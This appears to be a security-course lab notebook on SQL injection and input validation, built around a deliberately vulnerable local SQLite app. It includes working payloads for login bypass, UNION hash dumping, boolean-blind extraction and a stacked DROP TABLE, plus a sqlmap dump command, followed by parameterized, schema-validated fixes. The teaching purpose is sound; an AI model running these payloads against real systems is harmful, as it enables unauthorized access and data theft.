# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# # 07 · Injection — input validation and SQL
#
# *Workflow step 4: validate all input.* Standards and references: the
# [OWASP SQL Injection Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html)
# (Defense Option 1: prepared statements with parameterized queries), the
# [OWASP Query Parameterization Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html),
# the [OWASP Input Validation Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html),
# OWASP ASVS 5.0 requirement 1.2.4 (queries parameterized or otherwise protected from SQL
# injection) and chapter V2.2 (input validation), CWE-89, and
# [RFC 9110 §15.5.14](https://www.rfc-editor.org/rfc/rfc9110#section-15.5.14) (413 Content Too Large).
#
# The lab app is a small **members directory** on a real SQLite database: sign up with an
# email and a name, look people up by email, and staff log in. It was written the way the
# catalogue's anti-example is written — SQL glued together from strings, request bodies taken
# as they come. You will log in as the admin without a password, read every password hash,
# read one again with nothing but yes/no answers, try to drop the table, and stuff the
# database with megabytes and nonsense. Then you will fix it the way a reviewer expects.

# %%
import inspect
import secrets
import sqlite3

import matplotlib.pyplot as plt

import labkit
from labkit.attacks import injection
from labkit.vulnerable import validation as vulnerable

lab = labkit.open_lab("07-injection")
USERS_API, LOGIN_API, ME_API = "/api/users", "/api/auth/login", "/api/auth/me"
lab

# %% [markdown]
# ## Learn
#
# The catalogue's anti-example, in TypeScript:
#
# ```ts
# app.post("/api/users", (req, res) => {
#   db.query(`SELECT * FROM users WHERE email = '${req.body.email}'`);
# });
# ```
#
# The database receives **one string** and cannot tell which part the programmer wrote and
# which part came from the request. Send `' OR '1'='1` as the email and the query becomes
# `... WHERE email = '' OR '1'='1'` — true for every row. That is SQL injection: data that
# ends up being executed as code.
#
# The fix is not to clean the data, it is to **never mix it into the code**. With a
# *parameterized query* the SQL text is a constant with placeholders, and the values travel
# separately to the database, which never parses them as SQL:
#
# ```python
# db.execute("SELECT * FROM users WHERE email = ?", (email,))   # sqlite3: paramstyle "qmark"
# ```
#
# Validation is the second, separate defence. The catalogue validates every body with a
# schema, so wrong types, absurd lengths and unexpected fields never reach the logic:
#
# ```ts
# const CreateUserSchema = z.object({
#   email: z.string().email().max(255),
#   name: z.string().min(1).max(100).trim(),
#   age: z.number().int().min(13).max(150).optional(),
# });
# const result = CreateUserSchema.safeParse(req.body);
# if (!result.success) return res.status(400).json({ errors: result.error.flatten() });
# ```
#
# Why both? Validation cannot stop injection on its own: `o'brien@example.com` is a perfectly
# valid email address (RFC 5322 allows `'` in the local part), so a validator that lets real
# people in also lets a quote in. And parameterization cannot stop a 5 MB name or an age of
# `"abc"`: those are stored faithfully, as data.
#
# Here is the app's lookup, exactly the anti-example in Python:

# %%
print(inspect.getsource(vulnerable.find_users))

# %% [markdown]
# It works for ordinary people. For anyone whose address has an apostrophe, it breaks — the
# first symptom of injection is usually a bug report from a customer called O'Neill:

# %%
print(lab.client.get(USERS_API, params={"email": "alice@example.com"}).json())
print(lab.client.get(USERS_API, params={"email": "o'neill@example.com"}).json())

# %% [markdown]
# The app even prints SQLite's error message (as many debug builds do). That is a gift to an
# attacker, and it is why `labkit serve 07-injection` makes a good target for tools such as
# `sqlmap`: stable routes, deterministic errors, no rate limit.
#
# ## Attack 1 — log in as the admin without a password
#
# The login runs this query (`password_matches` is an SQL function the app registers: it
# checks a password against an argon2 hash, like PostgreSQL's `crypt()`):

# %%
print(inspect.getsource(vulnerable.find_login))

# %% [markdown]
# `AND` binds tighter than `OR`. Close the email's quote, add `OR` and a condition that is
# always true, and let the app's own closing quote finish your string. The app logs in the
# first row that comes back — user 1 is alice, the admin. Send your body to `POST
# /api/auth/login`, show who you are with `GET /api/auth/me` (`Authorization: Bearer <token>`),
# and store the body in `bypass`: you will send it again to your fixed app.

# %% labkit={"answer": "auth-bypass"}
### BEGIN SOLUTION
bypass = {"email": "' OR '1'='1", "password": "no idea"}
token = lab.client.post(LOGIN_API, json=bypass).json()["accessToken"]
print(lab.client.get(ME_API, headers={"Authorization": f"Bearer {token}"}).json())
### STUB
bypass = None  # TODO: {"email": ..., "password": ...} that gets you in as alice
### END SOLUTION

# %% labkit={"check": "auth-bypass"}
lab.check("auth-bypass", bypass)

# %% [markdown]
# ## Attack 2 — read the password column with UNION
#
# The lookup shows what its query returns. `UNION SELECT` appends rows of your own choosing —
# from any table — as long as they have as many columns as the original `SELECT *`. Find that
# number first: `ORDER BY n` fails as soon as `n` is larger than the column count.


# %%
def order_by(n):
    return lab.client.get(USERS_API, params={"email": f"' ORDER BY {n} --"})


columns = 1
while order_by(columns + 1).status_code == 200:
    columns += 1
print(f"the lookup selects {columns} columns")
print(order_by(columns + 1).json())

# %% [markdown]
# SQLite's own catalogue, `sqlite_master`, tells you the column names. Put the `sql` column
# where the page shows a name (the 6th column):

# %%
schema = "' UNION SELECT 1, name, type, sql, 0, sql, 0 FROM sqlite_master --"
for row in lab.client.get(USERS_API, params={"email": schema}).json()["users"]:
    if row["name"]:  # indexes SQLite made itself have no SQL
        print(row["name"])

# %% [markdown]
# Now write your own payload: an email that makes the lookup return every user with
# `password_hash` in the name column. Keep it in `union` (you will replay it against your fix),
# send it, and store `{email: password_hash}` in `hashes` (only the accounts that have a hash:
# members who just signed up have none).

# %% labkit={"answer": "union-hashes"}
### BEGIN SOLUTION
picked = "id, email, role, password_hash, token_version, password_hash, age"  # hash as the name
union = f"' UNION SELECT {picked} FROM users --"
rows = lab.client.get(USERS_API, params={"email": union}).json()["users"]
hashes = {row["email"]: row["name"] for row in rows if row["name"]}
### STUB
union = None  # TODO: an email that appends every user's row, password_hash as the name
hashes = {}  # TODO: {email: password_hash}, read from what comes back
### END SOLUTION
for email, stored in hashes.items():
    print(f"{email:<20} {stored[:50]}...")

# %% labkit={"check": "union-hashes"}
lab.check("union-hashes", hashes)

# %% [markdown]
# They are argon2id hashes (lab 01), so they will not crack easily — but a database that
# stores MD5 would be lost at this point.
#
# ## Attack 3 — boolean-blind extraction
#
# Many endpoints never show data, only a yes or a no: "this email is taken", "login failed",
# an empty list. That single bit is enough. Ask the lookup for alice *and* a condition of
# yours: alice comes back when the condition is true, nothing when it is false.
#
# 1. Write the **oracle**, `oracle(condition, client=lab.client) -> bool`: one request whose
#    email is alice's address, your `AND (condition)`, and a comment that swallows the app's
#    closing quote; `True` when a row comes back. Try it: `oracle("1 = 1")` must be `True`,
#    `oracle("1 = 2")` `False`.
# 2. **Bisect.** `oracle(f"({expression}) > {n}")` halves the range of any number the database
#    can compute: first the length of the hash, `length((SELECT ...))`, then the code point of
#    each character, `unicode(substr((SELECT ...), i, 1))` — about 7 questions a character.
#
# Store what you read in `alice_hash`: a few hundred requests, none of which ever shows the
# hash.

# %%
alice_hash_sql = "SELECT password_hash FROM users WHERE email = 'alice@example.com'"


# %% labkit={"answer": "blind-extract"}
### BEGIN SOLUTION
def oracle(condition, client=lab.client):
    """One request, one bit: does alice come back when ``condition`` must hold too?"""
    email = f"alice@example.com' AND ({condition}) --"
    return bool(client.get(USERS_API, params={"email": email}).json().get("users"))


def bisect(expression, low, high):
    """The integer value of an SQL expression in [low, high], in about log2(high - low) asks."""
    while low < high:
        middle = (low + high) // 2
        if oracle(f"({expression}) > {middle}"):
            low = middle + 1
        else:
            high = middle
    return low


print("1 = 1 ->", oracle("1 = 1"), "   1 = 2 ->", oracle("1 = 2"))
length = bisect(f"length(({alice_hash_sql}))", 0, 256)
alice_hash = "".join(
    chr(bisect(f"unicode(substr(({alice_hash_sql}), {i}, 1))", 0, 127))
    for i in range(1, length + 1)
)


### STUB
def oracle(condition, client=lab.client):
    # TODO: one request; True when alice comes back with your condition ANDed in
    raise NotImplementedError


alice_hash = ""  # TODO: alice's hash, read one yes/no answer of your oracle at a time
### END SOLUTION
print(alice_hash)

# %% labkit={"check": "blind-extract"}
lab.check("blind-extract", alice_hash)

# %% [markdown]
# ## Attack 4 — a stacked query
#
# The famous one: end the statement with `;` and start a second — `DROP TABLE users`. Send it
# to the lookup and store the email you sent in `stacked`.

# %% labkit={"answer": "stacked-query"}
### BEGIN SOLUTION
stacked = "'; DROP TABLE users; --"
### STUB
stacked = None  # TODO: an email that ends the statement and starts a second one
### END SOLUTION
print(
    stacked, "->", lab.client.get(USERS_API, params={"email": stacked}).json() if stacked else None
)

# %% labkit={"check": "stacked-query"}
lab.check("stacked-query", stacked)

# %% [markdown]
# The table survived — by luck, not by design. Python's `sqlite3` `execute()` compiles exactly
# one statement and refuses the rest. Its sibling `executescript()` runs every statement it is
# given, and so do many drivers for other databases (PostgreSQL's simple query protocol,
# MySQL with multi-statements on, SQL Server). Here is the same string through
# `executescript`, on a throw-away database in memory:

# %%
scratch = sqlite3.connect(":memory:")
scratch.execute("CREATE TABLE users (email TEXT)")
scratch.executescript("SELECT * FROM users WHERE email = ''; DROP TABLE users; --'")
print(scratch.execute("SELECT name FROM sqlite_master").fetchall(), "<- no tables left")
scratch.close()

# %% [markdown]
# The vulnerable `INSERT` of `POST /api/users` is injectable too — through the name, the age
# and the email. The payload battery below tries all of it.
#
# ## Attack 5 — no length limit
#
# Nothing limits the size of the request or of any field. Sign up (`POST /api/users`) with a
# name of five million characters and store the email you used in `big_email`.

# %% labkit={"answer": "oversized"}
### BEGIN SOLUTION
big_email = f"huge-{secrets.token_hex(4)}@example.com"
response = lab.client.post(USERS_API, json={"email": big_email, "name": "x" * 5_000_000})
print(response.status_code, f"{len(response.content):,} bytes came back")
### STUB
big_email = None  # TODO: the email of a new account whose name is megabytes long
### END SOLUTION

# %% labkit={"check": "oversized"}
lab.check("oversized", big_email)

# %% [markdown]
# ## Attack 6 — wrong types
#
# JSON has strings, numbers, booleans, lists and objects, and the app takes whichever arrives.
# Sign up a few members whose `age` is not a whole number — a word, a list, an object, a
# boolean, a fraction — see what the app stores, and keep the emails of the accounts it
# accepted in `typed_emails`.

# %% labkit={"answer": "wrong-types"}
### BEGIN SOLUTION
typed_emails = []
for age in ("abc", [30], {"$gt": 0}, True, 30.5):
    body = {"email": f"typed-{secrets.token_hex(4)}@example.com", "name": "Type Test", "age": age}
    response = lab.client.post(USERS_API, json=body)
    stored = response.json().get("age") if response.status_code == 201 else response.json()
    print(f"sent {age!r:<12} {response.status_code} -> stored {stored!r}")
    if response.status_code == 201:
        typed_emails.append(body["email"])
### STUB
typed_emails = []  # TODO: the emails of accounts whose age went in as something not a number
### END SOLUTION

# %% labkit={"check": "wrong-types"}
lab.check("wrong-types", typed_emails)

# %% [markdown]
# ## The whole battery
#
# `injection.PAYLOADS` is the lab's battery: every payload above and more, each with its goal
# — tautologies, comment tricks, keyword-free concatenation, UNION reads, blind conditions,
# stacked queries, and injections through the login's password and the INSERT's name, age and
# email. `replay` judges each one from the responses alone, the way a scanner does.

# %%
outcomes = injection.replay_all(lab.client)
for outcome in outcomes:
    print(outcome)

# %% [markdown]
# ## Fix 1 — parameterize every query
#
# Rewrite the app's three queries. Each function receives `db`, an open `sqlite3.Connection`
# (rows come back as `sqlite3.Row`; the SQL function `password_matches(password,
# password_hash)` is registered on it):
#
# - `find_users(db, email) -> list` — the lookup,
# - `create_user(db, user) -> int` — insert `user["email"]`, `user["name"]`, `user.get("age")`
#   with role `'viewer'` and an empty `password_hash`; return `cursor.lastrowid`,
# - `find_login(db, email, password) -> list` — the rows whose password and email match.
#
# The SQL text must be a constant; every value goes in the parameters tuple. No escaping by
# hand and no blocklist of "dangerous" words: the check stores names such as `O'Brien`, and
# `Robert'); DROP TABLE students;--` ([xkcd 327](https://xkcd.com/327/)), which is a silly name
# but a legitimate string, and it must come back exactly as it went in. Compare with `=`:
# `LIKE` and `GLOB` match *patterns* (`%`, `_`, `*`, `?` are wildcards), so `?email=%` would
# list every member. The age goes in the parameters too — SQL sent where a number goes needs
# no quote to escape.
#
# <!-- labkit:rules parameterized -->


# %% labkit={"answer": "parameterized"}
def find_users(db, email):
    ### BEGIN SOLUTION
    return db.execute("SELECT * FROM users WHERE email = ?", (email,)).fetchall()
    ### END SOLUTION


def create_user(db, user):
    ### BEGIN SOLUTION
    cursor = db.execute(
        "INSERT INTO users (email, name, age, role, password_hash) VALUES (?, ?, ?, 'viewer', '')",
        (user["email"], user["name"], user.get("age")),
    )
    return cursor.lastrowid
    ### END SOLUTION


def find_login(db, email, password):
    ### BEGIN SOLUTION
    return db.execute(
        "SELECT id, email, role, token_version FROM users"
        " WHERE password_matches(?, password_hash) AND email = ?",
        (password, email),
    ).fetchall()
    ### END SOLUTION


# %% labkit={"check": "parameterized"}
lab.check("parameterized", find_users=find_users, create_user=create_user, find_login=find_login)

# %% [markdown]
# ## Fix 2 — validate the body with a schema
#
# Write the catalogue's `CreateUserSchema` as a pydantic model and `validate_user(data)`, its
# `safeParse`: return `(clean_dict, None)` for a valid body and `(None, errors)` otherwise —
# never raise. The app answers `400 {"errors": errors}`; use zod's flattened shape,
# `{"formErrors": [...], "fieldErrors": {"age": ["..."]}}`.
#
# - `email`: at most 255 characters, shaped like an email. `EMAIL_PATTERN` below is the HTML
#   standard's definition of a valid address (what `<input type=email>` accepts). It allows
#   `'` — that is fine now that the queries are parameterized.
# - `name`: 1 to 100 characters **after** trimming. Careful: the catalogue's
#   `z.string().min(1).max(100).trim()` counts first and trims after, so it accepts a name of
#   only spaces; zod needs `.trim().min(1)`. Pydantic's `strip_whitespace` trims first.
# - `age`: an integer from 13 to 150, optional. `strict=True` refuses `"30"` and `true`, as
#   `z.number()` does.
# - no other field: `extra="forbid"` (zod silently strips unknown keys; refusing them tells a
#   client that `"role": "admin"` is not something it can set).
#
# <!-- labkit:rules validation -->

# %% labkit={"answer": "validation"}
import re
from typing import Annotated

from pydantic import (
    AfterValidator,
    BaseModel,
    ConfigDict,
    Field,
    StringConstraints,
    ValidationError,
)

EMAIL_PATTERN = (
    r"^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?"
    r"(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$"
)


def email_shape(value: str) -> str:
    if not re.fullmatch(EMAIL_PATTERN, value):
        raise ValueError("Invalid email")
    return value


class CreateUser(BaseModel):
    ### BEGIN SOLUTION
    model_config = ConfigDict(extra="forbid", strict=True)

    email: Annotated[
        str, StringConstraints(strip_whitespace=True, max_length=255), AfterValidator(email_shape)
    ]
    name: Annotated[str, StringConstraints(strip_whitespace=True, min_length=1, max_length=100)]
    age: Annotated[int, Field(ge=13, le=150)] | None = None
    ### STUB
    pass  # TODO: model_config, and the fields email, name and age
    ### END SOLUTION


def validate_user(data):
    ### BEGIN SOLUTION
    try:
        return CreateUser.model_validate(data).model_dump(), None
    except ValidationError as exc:
        errors = {"formErrors": [], "fieldErrors": {}}
        for error in exc.errors():
            message = error["msg"].removeprefix("Value error, ")
            if error["loc"]:
                errors["fieldErrors"].setdefault(str(error["loc"][0]), []).append(message)
            else:
                errors["formErrors"].append(message)
        return None, errors
    ### END SOLUTION


# %% labkit={"check": "validation"}
lab.check("validation", validate_user=validate_user)

# %% [markdown]
# ## Fix 3 — cap the request body
#
# The schema refuses a 5 MB name — *after* the server has read 5 MB and parsed it into a
# Python string. A cap on the body stops it at the door, for every route at once. The
# [OWASP REST Security Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/REST_Security_Cheat_Sheet.html)
# (§ Input validation): "define an appropriate request size limit and reject requests
# exceeding the limit with HTTP response status 413". In production a reverse proxy usually
# enforces one too (nginx's `client_max_body_size`).
#
# The app's middleware asks `body_too_large(content_length, received)` before it reads the
# body (`received == 0`) and again after every chunk; `True` stops the request with `413`.
# `content_length` is the declared `Content-Length`, which is `None` for a chunked upload
# (RFC 9112 §6.1) and may be a lie — so count the bytes received too. 64 KiB is plenty here;
# any cap from 16 KiB to 1 MiB is accepted.
#
# <!-- labkit:rules body-limit -->

# %% labkit={"answer": "body-limit"}
### BEGIN SOLUTION
MAX_BODY_BYTES = 64 * 1024
### STUB
MAX_BODY_BYTES = None  # TODO: the largest body this API needs to accept
### END SOLUTION


def body_too_large(content_length, received):
    ### BEGIN SOLUTION
    return (content_length or 0) > MAX_BODY_BYTES or received > MAX_BODY_BYTES
    ### END SOLUTION


# %% labkit={"check": "body-limit"}
lab.check("body-limit", body_too_large=body_too_large)

# %% [markdown]
# ## Verify — replay everything
#
# Your five functions together are the directory's new data layer. The check replays the
# whole payload battery, every malformed body and both oversized uploads against them, while
# O'Brien, `o'hara@...` and Bobby Tables sign up and staff log in.
#
# <!-- labkit:rules verify -->

# %% labkit={"check": "verify"}
fixes = dict(
    find_users=find_users,
    create_user=create_user,
    find_login=find_login,
    validate_user=validate_user,
    body_too_large=body_too_large,
)
lab.check("verify", **fixes)

# %% [markdown]
# The same battery, side by side: the vulnerable app and yours.

# %%
fixed = lab.patched(**fixes)
mine = injection.replay_all(fixed.client)
routes = ["lookup", "login", "create"]
found = {
    name: [sum(o.found for o in results if o.payload.route == route) for route in routes]
    for name, results in (("vulnerable app", outcomes), ("your fix", mine))
}
fig, ax = plt.subplots(figsize=(6, 2.6))
for offset, (name, counts) in enumerate(found.items()):
    ax.barh(
        [i + offset * 0.4 for i in range(3)],
        counts,
        height=0.4,
        label=name,
        color="#cf222e" if offset == 0 else "#1a7f37",
    )
ax.set_yticks(
    [i + 0.2 for i in range(3)], ["GET /api/users", "POST /api/auth/login", "POST /api/users"]
)
ax.set_xlabel("payloads that found something")
ax.set_title(f"{len(injection.PAYLOADS)} payloads")
ax.legend()
plt.tight_layout()
plt.show()

# %% [markdown]
# ## Your own payloads against your fix
#
# That battery is ours. Now send *yours*, unchanged, to the fixed app: the login body of
# Attack 1, the UNION of Attack 2, and your oracle from Attack 3 pointed at `fixed.client`.
# With parameterized queries each one is only an odd email address: no login, no rows, and an
# oracle that answers the same whatever you ask.


# %%
def bypass_again():
    if bypass is None:
        raise NotImplementedError
    response = fixed.client.post(LOGIN_API, json=bypass)
    return f"{response.status_code} {response.json()}"


def union_again():
    if union is None:
        raise NotImplementedError
    response = fixed.client.get(USERS_API, params={"email": union})
    return f"{response.status_code}, {len(response.json().get('users') or [])} row(s) came back"


def oracle_again():
    answers = {
        condition: oracle(condition, client=fixed.client) for condition in ("1 = 1", "1 = 2")
    }
    same = len(set(answers.values())) == 1
    return f"{answers}: " + ("one answer to every question, it learns nothing" if same else
                             "it still tells true from false")  # fmt: skip


for attack, exploit in (
    ("Attack 1, your login bypass", bypass_again),
    ("Attack 2, your UNION", union_again),
    ("Attack 3, your oracle", oracle_again),
):
    try:
        outcome = exploit()
    except NotImplementedError:
        outcome = "not written yet"
    except Exception as exc:  # a fix not written yet makes the fixed app answer 500
        outcome = f"could not run ({type(exc).__name__}: {exc}) — are your fixes written?"
    print(f"{attack}: {outcome}")

# %% [markdown]
# ## Recap
#
# | avoid | do instead |
# | --- | --- |
# | Trusting user input | Validate with zod/joi, parameterized queries |
# | No input length limits | Max length on all string inputs |
#
# What a reviewer looks for in real code:
#
# - **no string building around SQL**: f-strings, `%`, `.format` or `+` inside `execute()`,
#   `text()`, `raw()` or `executescript()`. Linters find many of them — ruff's `S608`
#   (bandit's B608) flags string-built queries;
# - values always as parameters, in every query — SELECT, INSERT, UPDATE and the login alike.
#   An ORM helps until someone reaches for its raw-SQL escape hatch;
# - identifiers (a column to sort by, a table name) cannot be parameters: pick them from an
#   allowlist;
# - no hand-made escaping and no blocklists: they break legitimate names and miss the next
#   trick (`||`, `/**/`, mixed case);
# - a schema on every request body: types, lengths, ranges, `extra="forbid"`, trimming
#   *before* length checks — and a body size limit in front of it all;
# - database errors never shown to the client (this app printed SQLite's message to help you);
# - least privilege for the database account, so an injection that slips through cannot
#   `DROP` anything.
#
# Want to try a real scanner? In a terminal: `labkit serve 07-injection`, then
# `sqlmap -u "http://127.0.0.1:<port>/api/users?email=x" --batch --dbms=sqlite --dump`;
# and again against `labkit serve 07-injection --secure`.

# %%
labkit.progress()

# %%
lab.close()
